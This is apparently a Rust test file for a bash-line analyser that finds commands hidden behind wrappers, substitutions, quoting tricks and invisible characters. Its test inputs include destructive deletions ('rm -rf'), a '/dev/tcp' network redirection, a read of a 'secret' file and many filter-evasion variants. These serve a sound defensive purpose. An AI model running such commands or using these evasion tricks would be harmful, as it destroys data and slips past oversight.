mod against_bash;

use super::*;

fn argv(line: &str) -> Vec<Vec<String>> {
    analyse(line).commands.into_iter().map(|simple| simple.argv).collect()
}

/// Every command found inside, as lines.
fn inside(line: &str) -> Vec<String> {
    analyse(line).inner.iter().map(Simple::text).collect()
}

fn clear(line: &str) {
    let analysis = analyse(line);
    assert_eq!(analysis.opaque, None, "{line:?}");
    assert!(analysis.commands.iter().all(|simple| simple.doubt.is_none()), "{line:?} {analysis:?}");
}

fn unclear(line: &str) {
    let analysis = analyse(line);
    let doubt = analysis.commands.iter().any(|simple| simple.doubt.is_some());
    assert!(analysis.opaque.is_some() || doubt, "{line:?} {analysis:?}");
}

#[test]
fn words_reach_the_program_as_written() {
    assert_eq!(
        argv(r#"echo "a b" 'c "d"' e\ f "g\"h\$i\\j\k" x"y"'z' ''"#),
        [["echo", "a b", "c \"d\"", "e f", "g\"h$i\\j\\k", "xyz", ""]]
    );
    assert_eq!(
        argv("git  status   a=b --x=y 5 -3 {} é"),
        [["git", "status", "a=b", "--x=y", "5", "-3", "{}", "é"]]
    );
    let analysis = analyse("  git  diff 'a b' && ls 2>&1 | cat >/dev/null; true ");
    assert_eq!(analysis.opaque, None);
    assert_eq!(analysis.line, "git diff 'a b' && ls 2>&1 | cat >/dev/null; true");
    assert_eq!(normal_rule("git  commit -m \"a b\""), Some("git commit -m 'a b'".into()));
    assert_eq!(normal_rule("FOO=1 cargo test"), Some("FOO=1 cargo test".into()));
    assert_eq!(normal_rule("a && b"), None);
}

#[test]
fn a01_chains_fall_apart() {
    for line in ["echo hi && ls", "echo hi; ls", "false || ls", "echo hi | ls"] {
        clear(line);
        assert_eq!(argv(line).last().unwrap(), &["ls"]);
    }
    clear("echo \"a && b\"");
    for line in
        ["echo hi & ls", "echo hi |& ls", "! ls", "(ls)", "{ ls; }", "if a; then b; fi", "f() { ls; }; f"]
    {
        unclear(line);
    }
}

#[test]
fn a02_a12_e03_hidden_characters() {
    for line in [
        "git status\nrm a",
        "git status\r",
        "git sta\\\ntus",
        "git status\0; id",
        "git\tstatus",
        "git\u{a0}status",
        "ls \u{202e}x",
        "ls \u{200b}",
        "ls \u{feff}",
        "ls \u{ad}",
        "ls \u{e0041}",
        "ls \u{3000}x",
    ] {
        unclear(line);
    }
    clear("git status\n");
}

#[test]
fn a03_a04_substitutions_and_expansions() {
    for line in [
        "echo $(id)",
        "echo `id`",
        "cat <(id)",
        "ls > >(id)",
        "echo \"$(id)\"",
        "echo \"`id`\"",
        "echo $x",
        "echo \"$x\"",
        "echo ${a=\"$\"}${b=\"$a(id)\"}${b@P}",
        "rg -e p$IFS.$IFS--pre=sh",
        "echo $((a[$(id)]))",
        "[[ -v a[$(id)] ]]",
        "echo $'x'",
        "echo $\"x\"",
        "echo $[1+1]",
        "echo a$",
        "ls $",
        "echo \"$\"",
        "echo ${x}",
        "echo $?",
        "echo \"a$1\"",
    ] {
        unclear(line);
    }
    clear("echo '$(id)' '`id`' \"\\$(id)\" \\$x");
    assert_eq!(argv("echo $(touch p)")[1], ["touch", "p"]);
}

#[test]
fn a05_assignments_are_kept_apart() {
    let analysis = analyse("PAGER='./x y' git diff a");
    assert_eq!(analysis.commands[0].argv, ["git", "diff", "a"]);
    assert_eq!(analysis.commands[0].assignments, ["PAGER=./x y"]);
    assert_eq!(analysis.commands[0].full_text(), "PAGER='./x y' git diff a");
    for line in [
        "A=$(id) ls",
        "A+=1 ls",
        "a[0]=1 ls",
        "A=1",
        "export A=1",
        "unset A",
        "declare A=1",
        "A=(1 2)",
        "A=~ ls",
    ] {
        unclear(line);
    }
}

#[test]
fn a06_a07_redirections() {
    for line in [
        "cat <<E && id\nx\nE",
        "cat <<'E'\nx\nE\nid",
        "cat <<< x",
        "git diff a > f",
        "echo x >| f",
        "ls &> f",
        "ls >& f",
        "cat 3<> f",
        "> f git status",
        "cat a > /dev/tcp/h/80",
        "cat < ../O/secret",
        "ls 2> f",
        "ls >> f",
        "ls >/dev/nullx",
        "ls > /dev/null/../x",
        "ls 2>&1x",
        "ls >&-",
        "> f",
    ] {
        unclear(line);
    }
    for line in ["ls 2>&1", "ls >/dev/null", "ls > /dev/null 2>&1", "ls 2> /dev/null | cat", "ls &>/dev/null"]
    {
        clear(line);
    }
}

#[test]
fn a08_what_does_not_parse_is_opaque() {
    for line in [
        "echo 'abc",
        "git status \\",
        "ls &&",
        "ls ; ; ls",
        "echo )",
        "echo \"",
        "((",
        "",
        "  ",
        "#",
        "# x",
        "ls # x",
        ";",
        "case x in",
        "echo !(x)",
        "if",
        "<",
        "&&",
        "a\\",
    ] {
        unclear(line);
    }
}

#[test]
fn where_grammar_and_shell_part_words_differently() {
    for line in ["time}\\[", "} ]]a", "{ a", "[[ a", "a}[ b", "?a=x b", "1=x b", "%1", "]] a", "! a"] {
        unclear(line);
    }
}

#[test]
fn a09_what_wrappers_run_is_found() {
    for line in [
        "env rm -rf x",
        "env -i A=1 rm -rf x",
        "env -u X rm -rf x",
        "env -S 'rm -rf x'",
        "sudo rm -rf x",
        "sudo -u root rm -rf x",
        "sudo -E -- rm -rf x",
        "timeout 5 rm -rf x",
        "timeout -k 5 -s KILL 10s rm -rf x",
        "nohup rm -rf x",
        "nice -n 5 rm -rf x",
        "setsid -f rm -rf x",
        "xargs rm -rf x",
        "xargs -n 1 -I {} rm -rf x",
        "bash -c 'rm -rf x'",
        "sh -ec 'true; rm -rf x'",
        "bash -o pipefail -c 'rm -rf x'",
        "/bin/sh -c \"rm -rf x\"",
        "env bash -c 'sudo rm -rf x'",
        "eval rm -rf x",
        "eval 'rm -rf x'",
        "find . -exec rm -rf x \\;",
        "find . -execdir sh -c 'rm -rf x' +",
        "fd a -x rm -rf x",
        "time rm -rf x",
        "command rm -rf x",
        "exec rm -rf x",
        "builtin command rm -rf x",
        "watch 'rm -rf x'",
        "trap 'rm -rf x' EXIT",
        "coproc rm -rf x",
        "busybox rm -rf x",
        "su root -c 'rm -rf x'",
        "flock /tmp/l rm -rf x",
        "stdbuf -oL rm -rf x",
        "(rm -rf x)",
        "echo $(rm -rf x)",
        "if true; then rm -rf x; fi",
        "for i in 1; do rm -rf x; done",
        "f() { rm -rf x; }",
        "cat <(rm -rf x)",
        "A=$(rm -rf x) ls",
        "echo \"`rm -rf x`\"",
        "! rm -rf x",
        "ls\nrm -rf x",
        "rm \\\n-rf x",
        "r\\\nm -rf x",
        "ls & rm -rf x",
        "echo 'abc; rm -rf x",
        "ls &&& rm -rf x",
        "bash <<E\nrm -rf x\nE",
        "sh <<< 'rm -rf x'",
        "while rm -rf x; do :; done",
        "case a in a) rm -rf x;; esac",
        "cat <<E && rm -rf x\nE",
        "{ rm -rf x; }",
        "bash -c \"bash -c 'rm -rf x'\"",
        "xargs -0 sh -c 'rm -rf x' _",
        "ls > $(rm -rf x)",
        "echo ${a:-$(rm -rf x)}",
    ] {
        let analysis = analyse(line);
        let found = analysis.commands.iter().chain(&analysis.inner).any(|simple| simple.text() == "rm -rf x");
        assert!(found, "{line:?} {:?}", inside(line));
    }
    for line in [
        "rm >/dev/null -rf x",
        "rm -rf > f x",
        "rm 2>&1 -rf x",
        ">f rm -rf x",
        "rm <<E -rf x\nE",
        "rm <<< y -rf x",
    ] {
        assert!(
            argv(line).contains(&["rm", "-rf", "x"].map(str::to_owned).to_vec()),
            "{line:?} {:?}",
            argv(line)
        );
        unclear(line);
    }
    assert!(!inside("echo 'rm -rf x'").iter().any(|line| line.starts_with("rm")), "a quoted text is a text");
}

#[test]
fn a11_quoted_and_built_up_names() {
    for line in [
        "r''m -rf x",
        "\"rm\" -rf x",
        "r\\m -rf x",
        "'r'\"m\" -rf x",
        "$'\\x72m' -rf x",
        "$'\\162\\155' -rf x",
        "$'\\u0072m' -rf x",
    ] {
        unclear(line);
        assert_eq!(argv(line)[0][0], "rm", "{line}");
    }
    for line in [
        "/bin/r? -rf x",
        "$'rm' x",
        "ls {a,b}",
        "ls {1..3}",
        "ls *.rs",
        "ls [a]",
        "ls ~/x",
        "ls a=~",
        "echo =ls",
        "'' x",
        "{a,b}",
    ] {
        unclear(line);
    }
    clear("ls '*.rs' \"~\" \\*");
}

#[test]
fn a14_limits_hold_and_deny_still_sees() {
    let many = format!("{}rm -rf /", "true;".repeat(60));
    assert!(analyse(&many).opaque.is_some());
    assert!(analyse(&many).commands.iter().any(|simple| simple.text() == "rm -rf /"));
    let long = format!("echo {} ; rm -rf /", "x ".repeat(MAX_PARSED));
    assert!(inside(&long).contains(&"rm -rf /".to_owned()));
    let distinct: String = (0..10_000).map(|n| format!("x{n};")).collect();
    assert!(analyse(&distinct).endless);
}

#[test]
fn a14_no_text_takes_long() {
    let texts = [
        "$(".repeat(10_000),
        "(".repeat(8_000),
        "`".repeat(16_000),
        "\"$(".repeat(5_000),
        "a && ".repeat(3_000),
        "a ".repeat(8_000),
        "cat <<A\n".repeat(2_000),
        "${a".repeat(5_000),
        ";".repeat(16_000),
        "< ".repeat(8_000),
        "a=(".repeat(5_000),
        "`$(({[[\"'${".repeat(1_400),
        "a=( ".repeat(190),
        "cd a;".repeat(3_000),
        "x ".repeat(2_000_000),
        "sudo ".repeat(3_000),
        "env -".repeat(3_000),
        format!("bash -c '{}'", "eval ".repeat(3_000)),
        "\\".repeat(16_000),
        "env A=1 ".repeat(2_000),
        "find -exec ".repeat(1_400),
        "bash -c ".repeat(2_000),
        "${".repeat(99),
        "[[ ".repeat(90),
    ];
    for text in texts {
        let start = std::time::Instant::now();
        let analysis = analyse(&text);
        let shown: String = text.chars().take(12).collect();
        assert!(analysis.opaque.is_some() || analysis.endless || analysis.commands.len() == 1, "{shown}");
        // Optimised it is a few milliseconds (`benches/policy.rs`). Here, unoptimised and beside
        // other tests, the bound only tells linear from quadratic.
        assert!(start.elapsed().as_secs() < 10, "{shown} took {:?}", start.elapsed());
    }
}

proptest::proptest! {
    #[test]
    fn a08_any_text_has_an_analysis(text in "[ a-z'\"$(){}\\[\\]<>|&;`\\\\\n\t=*?~!#/.-]{0,60}") {
        let analysis = analyse(&text);
        let exact = analysis.commands.iter().all(|simple| simple.doubt.is_none());
        if analysis.opaque.is_none() && exact {
            // The normalised line means the same again.
            let again = analyse(&analysis.line);
            proptest::prop_assert_eq!(&again.opaque, &None);
            let argv = |analysis: &Analysis| analysis.commands.iter().map(|s| s.argv.clone()).collect::<Vec<_>>();
            proptest::prop_assert_eq!(argv(&again), argv(&analysis));
        }
    }
}
